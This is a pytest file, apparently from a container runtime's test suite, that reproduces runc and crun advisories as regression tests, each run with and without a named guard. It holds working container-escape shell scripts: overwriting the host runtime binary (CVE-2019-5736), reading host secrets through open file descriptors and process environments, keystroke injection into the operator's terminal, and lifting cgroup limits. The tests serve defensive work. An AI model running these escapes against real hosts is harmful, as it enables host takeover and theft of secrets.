# SPDX-License-Identifier: GPL-2.0-or-later
"""
The advisories of runc and crun that requirements section 4.1 names, as attacks: on what the runtime leaves within reach of
a container, and on what it lets a container's process be. test_attacks_paths.py has those on paths, test_seven_layers.py those
that a layer of the config stops. docs/security.md has the table.

Each runs twice (fixture `victim`): guarded, it must fail; without the one guard that is named, it must succeed.
"""

import os
import re
import struct
import subprocess
from pathlib import Path

import pytest

from support import runtime as rt
from support.attack import delayed
from support.terminal import OnTerminal

pytestmark = [pytest.mark.only("tare"), pytest.mark.no_sanitizer("an attack is the same under it, and the other half is of another build")]

DELAY_US = 400_000  # for a loop in the container's shell to come by
SECRET = "the host's secret"


@pytest.fixture
def secret(tmp):
    """A file that only the host's root may read, in a directory of its own."""
    directory = tmp / "host"
    directory.mkdir(mode=0o755)
    (directory / "secret").write_text(SECRET)
    (directory / "secret").chmod(0o600)
    return directory / "secret"


# ---- the runtime's own binary ---------------------------------------------------------------------------------------

# Pid 1 waits for a process that is the runtime, opens its executable for reading, lets it go on until it has ended, and opens it
# once more for writing, as soon as the caller has ended, too, and the file is not busy. The runtime waits in the open of a FIFO.
OVERWRITE = """
mkfifo /fifo
echo ready
while :; do
  for p in /proc/[0-9]*; do
    grep -q 'expl[a]in' $p/cmdline 2>/dev/null || continue
    exec 3<$p/exe || continue
    echo '{}' >/fifo
    while [ -d $p ]; do :; done
    while ! cp /evil /proc/self/fd/3 2>/evil.log && grep -q busy /evil.log; do :; done
    grep . /evil.log || echo WRITTEN
    exec 3<&-
    exec sleep 1000
  done
done
"""


@pytest.mark.guard("selfexe_copy")
def test_X1_the_hosts_binary_is_overwritten(victim, bundle, tmp):
    """CVE-2019-5736: `exec` of /proc/self/exe makes the runtime run in the container, where its file is in reach."""
    runtime = tmp / "tare-oci"
    runtime.write_bytes(Path(victim.path).read_bytes())
    runtime.chmod(0o755)
    victim.path = str(runtime)
    b = bundle(script=OVERWRITE)
    (b.rootfs / "evil").write_text("#!/bin/sh\necho owned\n")
    before = runtime.read_bytes()
    c = victim.run_detached(b).wait_out("ready")
    c.exec("/proc/self/exe", "explain", "--bundle", "/b", "--facts", "/fifo")
    rt.wait_until(lambda: re.search("WRITTEN|[Rr]ead-only|not permitted", c.out), f"the attacker to be done: {c.out}")
    after = runtime.read_bytes()
    runtime.write_bytes(before)
    if victim.guarded:
        assert after == before and "Read-only file system" in c.out
    else:
        assert after == b"#!/bin/sh\necho owned\n"


# ---- a process that enters ------------------------------------------------------------------------------------------


# For each new process: is one of its files a directory of the host's? From there it goes up to the host's root.
LOOK_INTO_FDS = """
echo ready
while :; do
  for f in /proc/[0-9]*/fd/[3-9]*; do
    cat $f/../../../../..{secret} 2>/dev/null
  done
done
"""


@pytest.mark.guard("enter_close")
def test_X2_files_of_the_entering_process_lead_to_the_host(victim, bundle, secret):
    """CVE-2016-9962: with CAP_SYS_PTRACE the container looks into whoever enters, and finds the host's directories open."""
    b = bundle(script=LOOK_INTO_FDS.format(secret=secret))
    b.process["capabilities"] = {k: ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"] for k in ("bounding", "effective", "permitted")}
    c = victim.run_detached(b).wait_out("ready")
    victim.prefix = delayed("setsid", DELAY_US)
    victim.race(lambda: c.exec("true").ok() and SECRET in c.out, to_lose=1)


READ_ENVIRONMENTS = """
echo ready
while :; do
  for p in /proc/[0-9]*; do
    tr '\\0' '\\n' <$p/environ | grep HOST_SECRET
  done 2>/dev/null
done
"""


@pytest.mark.guard("undumpable")
def test_X2_memory_of_the_entering_process_is_read(victim, bundle):
    """
    CVE-2016-9962: before it executes its program the process that enters is still the host's runtime, with all that this has in
    memory. It has the container's ids and capabilities by then, so the container may look.
    """
    c = victim.run_detached(bundle("docker", script=READ_ENVIRONMENTS)).wait_out("ready")
    victim.prefix = delayed("execve", DELAY_US)
    host = dict(os.environ, HOST_SECRET="of the host")
    victim.race(lambda: c.exec("true", env=host).ok() and "HOST_SECRET=of the host" in c.out, to_lose=1)


# ---- files that stay open -------------------------------------------------------------------------------------------


@pytest.mark.guard("close_fds")
def test_X3_a_directory_that_the_caller_left_open(victim, bundle, secret):
    """CVE-2024-21626: what the caller forgot to close would be the container's."""
    fd = os.open(secret.parent, os.O_RDONLY)
    try:
        result = victim.run(bundle(script=f"cat /proc/self/fd/{fd}/secret"), pass_fds=[fd])
    finally:
        os.close(fd)
    if victim.guarded:
        assert result.out == "" and "No such file or directory" in result.err
    else:
        assert result.out == SECRET


@pytest.mark.guard("cwd_inside")
def test_X3_cwd_by_a_file_that_is_open(victim, bundle, secret):
    """CVE-2024-21626: until the program is executed files of the host are open, and process.cwd may name one."""
    fd = os.open(secret.parent, os.O_RDONLY)
    b = bundle(script="cat secret; cat ../host/secret")
    b.process["cwd"] = f"/proc/self/fd/{fd}"
    try:
        result = victim.run(b, pass_fds=[fd])
    finally:
        os.close(fd)
    if victim.guarded:
        result.fails(f'change directory to "/proc/self/fd/{fd}": it leads through a link of procfs')
    else:
        assert SECRET in result.ok().out


# ---- what a process is allowed --------------------------------------------------------------------------------------

CAP_NET_RAW, VFS_CAP_REVISION_2 = 13, 0x02000000


@pytest.mark.guard("inheritable")
def test_X13_a_file_with_inheritable_capabilities(victim, bundle):
    """
    CVE-2022-29162 (runc), CVE-2022-27650 (crun): exec --cap made the capability inheritable, too. A file of the image whose
    inheritable set has it then gives it to a user who should have none.
    """
    b = bundle("docker", script="while :; do sleep 1; done")
    b.process["noNewPrivileges"] = False
    program = b.rootfs / "bin/cat2"
    program.write_bytes(Path("/bin/busybox").read_bytes())
    program.chmod(0o755)
    os.setxattr(program, "security.capability", struct.pack("<IIIII", VFS_CAP_REVISION_2, 0, 1 << CAP_NET_RAW, 0, 0))
    c = victim.run_detached(b)
    result = c.exec("/bin/sh", "-c", "exec -a cat /bin/cat2 /proc/self/status", options=["--cap", "CAP_NET_RAW", "-u", "1000"]).ok()
    permitted = int(re.search(r"CapPrm:\s+(\w+)", result.out)[1], 16)
    assert permitted == (0 if victim.guarded else 1 << CAP_NET_RAW)


@pytest.mark.guard("user_number")
@pytest.mark.parametrize("user", ["abc", ":5", "-1", "4294967296", "0x3e8"])
def test_X15_a_user_that_is_no_number(victim, bundle, user):
    """CVE-2026-30892: whatever a half-read number is, it must not be root."""
    b = bundle(script="while :; do sleep 1; done")
    b.process["user"] = {"uid": 1000, "gid": 1000}
    result = victim.run_detached(b).exec("id", "-u", options=[f"--user={user}"])
    if victim.guarded:
        result.fails(f'run as user "{user}": it is not UID or UID:GID', status=255)
    else:
        assert result.ok().out == "0\n"


def test_X17_a_group_that_keeps_a_user_out(tmp):
    """
    CVE-2014-8989, the attack itself: whoever may drop a group reads what was closed to its members. That a user's container
    can't drop one is the kernel's doing (test_X17_groups_that_keep_a_user_out_stay): it takes no gid_map from a user before
    setgroups is denied, so there is no guard of ours to take away.
    """
    closed = tmp / "closed"
    closed.write_text(SECRET)
    os.chown(closed, 0, 4242)
    closed.chmod(0o604)

    def read(*groups):
        return subprocess.run(["setpriv", "--reuid=1000", "--regid=1000", *groups, "cat", closed], capture_output=True, text=True, check=False).stdout
    assert read("--groups=4242") == ""
    assert read("--clear-groups") == SECRET


def test_X12_lengths_of_sixteen_bits(tare, bundle):
    """
    CVE-2021-43784: runc sent its init's settings as netlink attributes, whose length has 16 bits: of a longer one the rest is read
    as further attributes, which whoever wrote it has chosen. The model shows it; tare sends no such message: the two processes
    share the plan as it is in memory, and the kernel's own limit of a map is named.
    """
    def attribute(kind, data):
        return struct.pack("<HH", (4 + len(data)) & 0xffff, kind) + data

    def parse(message):
        found = []
        while len(message) >= 4:
            length, kind = struct.unpack_from("<HH", message)
            if length < 4:
                break
            found.append((kind, message[4:length]))
            message = message[(length + 3) & ~3:]
        return found

    clone_flags, gid_map = 27281, 27285
    hostile = b"1 1 1\n" * 2 + attribute(clone_flags, struct.pack("<I", 0))
    hostile += b"\n" * (0x10000 + 12 - len(hostile))
    assert parse(attribute(gid_map, hostile))[1] == (clone_flags, bytes(4)), "the attack on the model"

    b = bundle("docker").user_namespace()
    b.linux["gidMappings"] = [{"containerID": i, "hostID": 100000 + i, "size": 1} for i in range(6000)]
    result = tare.run(b)
    result.fails("gidMappings")


@pytest.mark.guard("groups")
def test_X17_groups_of_the_caller(victim, bundle, secret):
    """Relative of CVE-2014-8989: what the caller's groups may read the container's user may read too."""
    os.chown(secret, 0, 4242)
    secret.chmod(0o640)
    b = bundle(script="cat /data/secret").mount("/data", "bind", secret.parent, ["rbind"])
    b.process["user"] = {"uid": 1000, "gid": 1000}
    result = victim.run(b, before=lambda: os.setgroups([4242]))
    if victim.guarded:
        assert result.out == "" and "Permission denied" in result.err
    else:
        assert result.out == SECRET


@pytest.mark.guard("session")
def test_X19_keys_are_pushed_into_the_operators_terminal(victim, bundle, attacker):
    """A container in its caller's session types what the caller's shell then reads (TIOCSTI)."""
    if Path("/proc/sys/dev/tty/legacy_tiocsti").exists() and Path("/proc/sys/dev/tty/legacy_tiocsti").read_text() == "0\n":
        pytest.skip("this kernel lets nobody push input into a terminal (dev.tty.legacy_tiocsti is 0)")
    b = bundle(args=["/attacker", "type", "reboot\n"])
    b.mount("/attacker", "bind", attacker, ["bind", "ro"])
    b.write()
    # The shell of an operator, who looks at a container without a terminal of its own, and then reads the next command.
    shell = " ".join(map(str, victim.command("run", "--bundle", b.path, victim.new_id()))) + "; read -t 2 line; echo \"next: [$line]\""
    with OnTerminal(["bash", "-c", shell], env=victim.environment()) as terminal:
        terminal.wait_text("next: [")
        terminal.wait()
        assert ("next: [reboot]" in terminal.text) is not victim.guarded
        assert ("Operation not permitted" in terminal.text) is victim.guarded


@pytest.mark.guard("keyring")
def test_X20_a_key_of_the_caller(victim, bundle, attacker):
    """A container in its caller's session keyring reads the caller's keys."""
    b = bundle(args=["/attacker", "key", "disk"]).mount("/attacker", "bind", attacker, ["bind", "ro"])
    victim.prefix = [attacker, "with-key", "disk", SECRET]
    result = victim.run(b)
    if victim.guarded:
        assert result.out == "" and "search the key: Required key not available" in result.err
    else:
        assert result.ok().out == SECRET


@pytest.mark.guard("cgroup_readonly")
def test_X14_a_container_lifts_its_own_limits(victim, bundle):
    """CVE-2023-25809: without a cgroup namespace /sys/fs/cgroup is the host's, and the user namespace's root could write it."""
    b = bundle(script="cd /sys/fs/cgroup; f=pids/pids.max; [ -e $f ] || f=pids.max; echo max >$f; cat $f")
    b.mount("/sys/fs/cgroup", "cgroup", "cgroup", ["nosuid", "noexec", "nodev"]).user_namespace(host_id=0)
    b.resources["pids"] = {"limit": 33}
    result = victim.run(b)
    if victim.guarded:
        assert result.out == "33\n" and "Read-only file system" in result.err
    else:
        assert result.ok().out == "max\n"
